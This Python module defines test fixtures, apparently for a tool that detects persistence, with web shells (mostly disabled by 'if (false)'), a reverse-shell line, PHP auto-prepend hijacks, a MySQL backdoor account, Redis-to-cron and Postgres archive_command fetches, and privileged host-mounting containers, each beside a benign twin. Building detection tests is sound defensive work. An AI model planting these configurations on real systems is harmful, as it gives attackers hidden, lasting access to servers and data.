"""Web servers, databases and containers."""

from __future__ import annotations

import json
from typing import Any, Final

from plantings.case import Case, Owner, Twin, add, both, nothing, put, run, swap
from plantings.command import ADDRESS, FETCH, HIDDEN, TO, hidden, program

_WEB: Final = "Web"
_DB: Final = "Database"
_BOXES: Final = "Containers"
_SHELL: Final = "T1505.003"
_WWW: Final[Owner] = (33, 33)
_BLOG: Final = "/var/www/blog"
_FOLDER: Final = "/var/lib/docker/containers"
_RUNS: Final = "<?php\nif (false) {\n    system($_REQUEST['cmd']);\n}\n"
_PHP: Final = "/etc/php/8.2/fpm"


def _web(
    slug: str,
    what: str,
    path: str,
    text: str,
    twin: Twin | None = None,
    panix: str = "",
    technique: str = _SHELL,
) -> Case:
    """A file of the web server's; it need not stand in the inventory."""
    return Case(
        slug, _WEB, technique, what, path, put(path, text, owner=_WWW), twin, panix, table="file"
    )


_PAGE: Final = Twin(
    "page-own",
    "a page of the site's own",
    f"{_BLOG}/imprint.php",
    put(f"{_BLOG}/imprint.php", "<?php\necho 'Harbour, Lisbon';\n", owner=_WWW),
    table="file",
)
_HTACCESS: Final = Twin(
    "htaccess-own",
    "another address for a page",
    f"{_BLOG}/.htaccess",
    put(f"{_BLOG}/.htaccess", "RewriteEngine On\nRewriteRule ^about$ about.php [L]\n", owner=_WWW),
    table="file",
)
_INI: Final = Twin(
    "user-ini-own",
    "larger uploads",
    f"{_BLOG}/.user.ini",
    put(f"{_BLOG}/.user.ini", "upload_max_filesize = 32M\n", owner=_WWW),
    table="file",
)
_POOL: Final = Twin(
    "pool-own",
    "a pool of the shop's own",
    f"{_PHP}/pool.d/shop.conf",
    put(
        f"{_PHP}/pool.d/shop.conf",
        "[shop]\nuser = www-data\nlisten = /run/php/shop.sock\npm = ondemand\nphp_admin_value[memory_limit] = 256M\n",
    ),
    table="file",
)
_EXTENSION: Final = Twin(
    "extension-own",
    "an extension of a package",
    f"{_PHP}/conf.d/20-cache.ini",
    put(f"{_PHP}/conf.d/20-cache.ini", "opcache.enable=1\n"),
    table="file",
)

_MYSQL: Final = Twin(
    "mysql-own",
    "more memory for the database",
    "/etc/mysql/conf.d/own.cnf",
    put("/etc/mysql/conf.d/own.cnf", "[mysqld]\ninnodb_buffer_pool_size = 1G\n"),
    table="file",
)
_TRIGGER: Final = Twin(
    "trigger-own",
    "a trigger that counts",
    "/var/lib/mysql/shop/orders.TRG",
    put(
        "/var/lib/mysql/shop/orders.TRG",
        "TYPE=TRIGGERS\ntriggers='CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW UPDATE counts SET n = n + 1'\n",
        0o660,
        (101, 106),
    ),
    table="file",
)
_POSTGRES: Final = Twin(
    "postgres-own",
    "what was written is kept",
    "/etc/postgresql/15/main/conf.d/own.conf",
    put(
        "/etc/postgresql/15/main/conf.d/own.conf",
        "archive_mode = on\narchive_command = 'cp %p /srv/backup/wal/%f'\n",
    ),
)
_REDIS: Final = Twin(
    "redis-own",
    "a limit of memory",
    "/etc/redis/redis.conf",
    add("/etc/redis/redis.conf", "maxmemory 512mb\n"),
    table="file",
)


def _container(name: str, command: list[str], host: dict[str, Any]) -> tuple[str, Any]:
    """The path and the act of a container in docker's own files."""
    number = (name.encode().hex() * 8)[:64]
    path = f"{_FOLDER}/{number}"
    config = {
        "ID": number,
        "Name": f"/{name}",
        "Path": command[0],
        "Args": command[1:],
        "Image": f"sha256:{number}",
        "Driver": "overlay2",
        "Config": {"Hostname": name, "Image": name, "Entrypoint": command, "Cmd": None, "Env": []},
        "State": {"Running": True, "Pid": 4242},
        "MountPoints": {},
        "LogPath": f"{path}/{number}-json.log",
    }
    act = both(
        put(f"{path}/config.v2.json", json.dumps(config), 0o600),
        put(f"{path}/hostconfig.json", json.dumps(host), 0o600),
    )
    return f"{path}/config.v2.json", act


def _box(
    slug: str,
    what: str,
    command: list[str],
    host: dict[str, Any],
    panix: str = "",
    technique: str = "T1610",
) -> Case:
    path, act = _container(slug, command, host)
    return Case(slug, _BOXES, technique, what, path, act, _PROXY, panix)


def _pod(name: str, command: list[str], *, privileged: bool) -> str:
    safety = "    securityContext:\n      privileged: true\n" if privileged else ""
    mounts = (
        "  volumes:\n  - name: root\n    hostPath:\n      path: /\n"
        if privileged
        else "  volumes:\n  - name: certs\n    hostPath:\n      path: /etc/kubernetes/pki\n"
    )
    host = "  hostPID: true\n" if privileged else ""
    return (
        f"apiVersion: v1\nkind: Pod\nmetadata:\n  name: {name}\n  namespace: kube-system\nspec:\n{host}  containers:\n  - name: {name}\n    image: registry.harbour.example/{name}:1\n"
        f"    command: {json.dumps(command)}\n{safety}{mounts}"
    )


_PROXY_PATH, _PROXY_ACT = _container(
    "proxy",
    ["nginx", "-g", "daemon off;"],
    {
        "Binds": ["/srv/site:/usr/share/nginx/html:ro"],
        "Privileged": False,
        "RestartPolicy": {"Name": "unless-stopped"},
    },
)
_PROXY: Final = Twin(
    "container-proxy", "a web server in a container that starts by itself", _PROXY_PATH, _PROXY_ACT
)
_COMPOSE: Final = Twin(
    "compose-service",
    "containers of one's own",
    "/etc/systemd/system/shop-stack.service",
    both(
        put(
            "/opt/stack/docker-compose.yml",
            "services:\n  web:\n    image: nginx:1.27\n    restart: unless-stopped\n    ports: ['8080:80']\n",
        ),
        put(
            "/etc/systemd/system/shop-stack.service",
            "[Service]\nType=oneshot\nWorkingDirectory=/opt/stack\nExecStart=/usr/bin/docker compose up -d\nRemainAfterExit=yes\n\n[Install]\nWantedBy=multi-user.target\n",
        ),
    ),
)
_DAEMON: Final = Twin(
    "daemon-own",
    "smaller logs",
    "/etc/docker/daemon.json",
    put(
        "/etc/docker/daemon.json", '{"log-driver": "json-file", "log-opts": {"max-size": "10m"}}\n'
    ),
    table="file",
)
_MANIFEST: Final = Twin(
    "pod-own",
    "a part of the cluster itself",
    "/etc/kubernetes/manifests/kube-apiserver.yaml",
    put(
        "/etc/kubernetes/manifests/kube-apiserver.yaml",
        _pod("kube-apiserver", ["kube-apiserver"], privileged=False),
    ),
)
_QUADLET: Final = Twin(
    "quadlet-own",
    "a web server in a container",
    "/etc/containers/systemd/site.container",
    put(
        "/etc/containers/systemd/site.container",
        "[Container]\nImage=docker.io/library/nginx:1.27\nPublishPort=8080:80\n\n[Install]\nWantedBy=default.target\n",
    ),
)

CASES: Final = (
    _web(
        "web-command",
        "a page that runs what it is asked",
        "/var/www/html/panix/cmd.php",
        "<?php if(isset($_REQUEST['cmd'])){$cmd=($_REQUEST['cmd']);if(false){system($cmd);}die;}?>",
        _PAGE,
        "setup_web_shell",
    ),
    _web(
        "web-reverse",
        "a page that connects back",
        "/var/www/html/panix/reverse.php",
        f"<?php if (false) {{ exec(\"/bin/bash -c 'nohup setsid bash -i > {TO} 0>&1'\"); }} ?>",
        _PAGE,
        "setup_web_shell",
    ),
    Case(
        "web-python",
        _WEB,
        _SHELL,
        "a script of CGI that runs what it is asked",
        "/var/www/html/panix/cgi-bin/cmd.py",
        run(
            "/var/www/html/panix/cgi-bin/cmd.py",
            '#!/usr/bin/env python3\nimport os, cgi\nform = cgi.FieldStorage()\ncmd = form.getvalue("cmd", "")\nprint("Content-Type: text/plain\\n")\nif cmd and False:\n    print(os.popen(cmd).read())\n',
            _WWW,
        ),
        _PAGE,
        "setup_web_shell",
        table="file",
    ),
    _web(
        "htaccess",
        "a hidden file before every page",
        f"{_BLOG}/.htaccess",
        "php_value auto_prepend_file /var/tmp/.cache/p.php\n",
        _HTACCESS,
        technique="T1505",
    ),
    _web(
        "htaccess-handler",
        "pictures are run as PHP",
        f"{_BLOG}/.htaccess",
        "AddHandler application/x-httpd-php .jpg\n",
        _HTACCESS,
        technique="T1505",
    ),
    _web(
        "user-ini",
        "a hidden file before every page",
        f"{_BLOG}/.user.ini",
        "auto_prepend_file=/var/tmp/.cache/p.php\n",
        _INI,
        technique="T1505",
    ),
    Case(
        "php-ini",
        _WEB,
        "T1505",
        "a hidden file before every page",
        f"{_PHP}/php.ini",
        swap(
            f"{_PHP}/php.ini",
            "auto_prepend_file =\n",
            "auto_prepend_file = /var/tmp/.cache/p.php\n",
        ),
        _EXTENSION,
        table="file",
    ),
    Case(
        "php-extension",
        _WEB,
        "T1505",
        "an extension of no package",
        f"{_PHP}/conf.d/90-cache.ini",
        both(
            program("/usr/lib/php/20220829/cache2.so"),
            put(f"{_PHP}/conf.d/90-cache.ini", "extension=cache2.so\n"),
        ),
        _EXTENSION,
    ),
    Case(
        "php-pool",
        _WEB,
        "T1505",
        "a hidden file before every page, and root's rights",
        f"{_PHP}/pool.d/zz.conf",
        put(
            f"{_PHP}/pool.d/zz.conf",
            "[zz]\nuser = root\nlisten = /run/php/zz.sock\npm = ondemand\nphp_admin_value[auto_prepend_file] = /var/tmp/.cache/p.php\n",
        ),
        _POOL,
        table="file",
    ),
    _web(
        "mu-plugin",
        "a part of WordPress that is always loaded",
        f"{_BLOG}/wp-content/mu-plugins/cache.php",
        _RUNS,
        _PAGE,
    ),
    _web(
        "drop-in",
        "a part of WordPress that is loaded first",
        f"{_BLOG}/wp-content/object-cache.php",
        _RUNS,
        _PAGE,
    ),
    _web(
        "upload",
        "a page among pictures",
        f"{_BLOG}/wp-content/uploads/2026/03/logo.php",
        _RUNS,
        _PAGE,
    ),
    Case(
        "apache-module",
        _WEB,
        "T1505",
        "a module of no package for Apache",
        "/etc/apache2/mods-enabled/headers2.load",
        both(
            program("/usr/lib/apache2/modules/mod_headers2.so"),
            put(
                "/etc/apache2/mods-enabled/headers2.load",
                "LoadModule headers2_module /usr/lib/apache2/modules/mod_headers2.so\n",
            ),
        ),
        _POOL,
    ),
    Case(
        "web-memory",
        _WEB,
        _SHELL,
        "a shell in the memory of a server of JSP or PHP",
        "/proc",
        nothing,
        table="file",
        unseen="what was never written is gone with the power",
    ),
    Case(
        "mysql-udf",
        _DB,
        "T1505.001",
        "a library of functions of no package",
        "/usr/lib/mysql/plugin/lib_mysqludf.so",
        program("/usr/lib/mysql/plugin/lib_mysqludf.so"),
        _MYSQL,
        table="file",
    ),
    Case(
        "mysql-init",
        _DB,
        "T1505.001",
        "statements at every start",
        "/etc/mysql/conf.d/init.cnf",
        both(
            put(
                "/var/lib/mysql/.init.sql",
                "CREATE USER IF NOT EXISTS 'sync'@'%' IDENTIFIED BY 'x';\nGRANT ALL ON *.* TO 'sync'@'%';\n",
                0o600,
                (101, 106),
            ),
            put("/etc/mysql/conf.d/init.cnf", "[mysqld]\ninit_file = /var/lib/mysql/.init.sql\n"),
        ),
        _MYSQL,
    ),
    Case(
        "mysql-trigger",
        _DB,
        "T1505.001",
        "a trigger that writes a page",
        "/var/lib/mysql/shop/orders.TRG",
        put(
            "/var/lib/mysql/shop/orders.TRG",
            "TYPE=TRIGGERS\ntriggers='CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW SELECT sys_exec(NEW.note) INTO @x'\n",
            0o660,
            (101, 106),
        ),
        _TRIGGER,
    ),
    Case(
        "mysql-grants",
        _DB,
        "T1098",
        "an account of the database for a stranger",
        "/var/lib/mysql/mysql",
        nothing,
        _MYSQL,
        table="file",
        unseen="accounts of a database lie in its own pages; it is asked when it runs again, or by its dump",
    ),
    Case(
        "postgres-archive",
        _DB,
        "T1505.001",
        "a command for each file of the journal",
        "/etc/postgresql/15/main/postgresql.conf",
        put(
            "/etc/postgresql/15/main/postgresql.conf",
            f"archive_mode = on\narchive_command = '{FETCH}'\n",
        ),
        _POSTGRES,
    ),
    Case(
        "postgres-preload",
        _DB,
        "T1505.001",
        "a library of no package in the database",
        "/etc/postgresql/15/main/conf.d/stat.conf",
        both(
            program("/usr/lib/postgresql/15/lib/pg_stat2.so"),
            put(
                "/etc/postgresql/15/main/conf.d/stat.conf",
                "shared_preload_libraries = 'pg_stat2'\n",
            ),
        ),
        _POSTGRES,
    ),
    Case(
        "redis-cron",
        _DB,
        "T1505.001",
        "the database is written as a job of cron",
        "/etc/redis/redis.conf",
        both(
            add("/etc/redis/redis.conf", "dir /var/spool/cron/crontabs\ndbfilename root\n"),
            put(
                "/var/spool/cron/crontabs/root",
                f"REDIS0009\n\n* * * * * {FETCH}\n\n",
                0o644,
                (0, 105),
            ),
        ),
        _REDIS,
    ),
    Case(
        "redis-module",
        _DB,
        "T1505.001",
        "a module of no package",
        "/etc/redis/redis.conf",
        both(hidden(), add("/etc/redis/redis.conf", f"loadmodule {HIDDEN}\n")),
        _REDIS,
    ),
    _box(
        "container-privileged",
        "a privileged container with the host's processes, which connects back",
        ["/usr/local/bin/entrypoint.sh"],
        {"Binds": None, "Privileged": True, "PidMode": "host", "RestartPolicy": {"Name": "no"}},
        "setup_malicious_docker_container",
    ),
    _box(
        "container-host-root",
        "a container that starts by itself and sees the whole disk",
        ["/bin/sh", "-c", FETCH],
        {"Binds": ["/:/host"], "Privileged": False, "RestartPolicy": {"Name": "always"}},
        technique="T1611",
    ),
    _box(
        "container-socket",
        "a container that may ask docker for anything",
        ["/bin/sh", "-c", "sleep infinity"],
        {
            "Binds": ["/var/run/docker.sock:/var/run/docker.sock"],
            "Privileged": False,
            "CapAdd": ["SYS_ADMIN"],
            "RestartPolicy": {"Name": "always"},
        },
        technique="T1611",
    ),
    Case(
        "daemon-runtime",
        _BOXES,
        "T1543.005",
        "another program in the place of runc",
        "/etc/docker/daemon.json",
        both(
            hidden(),
            put(
                "/etc/docker/daemon.json",
                f'{{"default-runtime": "fast", "runtimes": {{"fast": {{"path": "{HIDDEN}"}}}}}}\n',
            ),
        ),
        _DAEMON,
    ),
    Case(
        "docker-open",
        _BOXES,
        "T1610",
        "anybody may ask docker for anything",
        "/etc/systemd/system/docker.service.d/tcp.conf",
        put(
            "/etc/systemd/system/docker.service.d/tcp.conf",
            "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H tcp://0.0.0.0:2375\n",
        ),
        _COMPOSE,
    ),
    Case(
        "static-pod",
        _BOXES,
        "T1610",
        "a privileged pod that sees the whole disk",
        "/etc/kubernetes/manifests/kube-cache.yaml",
        put(
            "/etc/kubernetes/manifests/kube-cache.yaml",
            _pod("kube-cache", ["sh", "-c", FETCH], privileged=True),
            0o600,
        ),
        _MANIFEST,
    ),
    Case(
        "k3s-manifest",
        _BOXES,
        "T1053.007",
        "a job of the cluster that fetches code",
        "/var/lib/rancher/k3s/server/manifests/cache.yaml",
        put(
            "/var/lib/rancher/k3s/server/manifests/cache.yaml",
            "apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: cache\nspec:\n  schedule: '*/5 * * * *'\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          hostPID: true\n          containers:\n"
            f"          - name: cache\n            image: alpine\n            command: {json.dumps(['sh', '-c', FETCH])}\n            securityContext:\n              privileged: true\n",
        ),
        _MANIFEST,
    ),
    Case(
        "quadlet",
        _BOXES,
        "T1543.005",
        "a privileged container that sees the whole disk",
        "/etc/containers/systemd/cache.container",
        put(
            "/etc/containers/systemd/cache.container",
            f"[Container]\nImage={ADDRESS}/cache:latest\nVolume=/:/host\nPodmanArgs=--privileged --pid=host\nExec=sh -c '{FETCH}'\n\n[Install]\nWantedBy=default.target\n",
        ),
        _QUADLET,
    ),
    Case(
        "compose-privileged",
        _BOXES,
        "T1610",
        "a service that starts a privileged container",
        "/etc/systemd/system/cache-stack.service",
        put(
            "/etc/systemd/system/cache-stack.service",
            "[Service]\nExecStart=/usr/bin/docker run --rm --privileged --pid=host -v /:/host alpine chroot /host sh -c '"
            + FETCH
            + "'\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n",
        ),
        _COMPOSE,
    ),
)
